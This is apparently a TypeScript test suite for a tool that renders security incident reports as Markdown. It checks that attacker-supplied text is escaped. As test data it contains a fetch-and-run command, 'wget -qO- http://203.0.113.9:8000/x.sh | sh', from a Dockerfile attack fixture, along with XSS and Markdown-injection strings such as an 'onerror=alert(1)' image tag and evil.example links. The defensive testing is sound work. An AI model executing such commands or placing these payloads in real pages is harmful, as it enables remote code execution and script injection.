import { assert, constantFrom, property, string, tuple } from 'fast-check';
import MarkdownIt, { type Token } from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { buildkitAttack } from '../../correlate/fixtures/stories.js';
import type { Document } from '../document.js';
import { anyText } from '../fixtures/any-text.js';
import { infected, partsOf } from '../fixtures/parts.js';
import { full } from '../parts.js';
import { incidentDocument } from '../report.js';
import { markdownOf } from './markdown.js';

/** As permissive as a reader can be: HTML is taken, bare addresses become links. */
const reader = new MarkdownIt({ html: true, linkify: true });

const tokens = (text: string): Token[] => {
  const blocks = reader.parse(text, {});
  return blocks.concat(blocks.flatMap(({ children }) => children ?? []));
};

const parts = partsOf(buildkitAttack());

describe('an incident in Markdown', () => {
  const text = markdownOf(incidentDocument(parts, full));

  it('has its sections as headings, its Dockerfile as a block', () => {
    const found = tokens(text);
    expect(found.filter(({ type }) => type === 'heading_open').length).toBeGreaterThan(8);
    const blocks = found.filter(({ type }) => type === 'fence').map(({ content }) => content);
    expect(blocks.join('')).toContain('RUN wget -qO- http://203.0.113.9:8000/x.sh | sh');
  });
});

describe('hostile strings', () => {
  const tricks = constantFrom(
    '](https://evil.example)',
    '![x](https://evil.example/pixel.png)',
    '<img src=x onerror=alert(1)>',
    '```\n# heading\n```',
    '~~~~~~~~~\n<script>',
    '\n\n# heading\n\n',
    '1. one',
    'https://evil.example www.evil.example a@evil.example',
    '[x]: https://evil.example',
    '| a | b |',
    '`````````',
    '&#60;b&#62;',
  );
  const harmless = markdownOf(incidentDocument(infected(parts, 'x'), full));
  const shape = (text: string): string[] => tokens(text).map(({ type }) => type);

  it('make no link, image, heading, HTML or block', () => {
    const known = new Set(shape(harmless));
    const headings = shape(harmless).filter((type) => type === 'heading_open').length;
    assert(
      property(tuple(tricks, anyText(8)), ([trick, noise]) => {
        const types = shape(markdownOf(incidentDocument(infected(parts, trick + noise), full)));
        expect(types.filter((type) => !known.has(type))).toEqual([]);
        expect(types.filter((type) => type === 'heading_open')).toHaveLength(headings);
      }),
      { numRuns: 15 },
    );
  });

  it('do not end the block that they stand in', () => {
    assert(
      property(string({ unit: constantFrom('`', '~', '\n', ' ', 'a'), maxLength: 30 }), (line) => {
        const document: Document = {
          kind: 'Build',
          id: 'b',
          title: 't',
          severity: undefined,
          sections: [
            { title: 's', blocks: [{ kind: 'commands', language: 'sh', lines: [line, 'end'] }] },
          ],
        };
        const fences = tokens(markdownOf(document)).filter(({ type }) => type === 'fence');
        expect(fences).toHaveLength(1);
        expect(fences[0]?.content.split('\n')).toHaveLength(3);
      }),
    );
  });
});
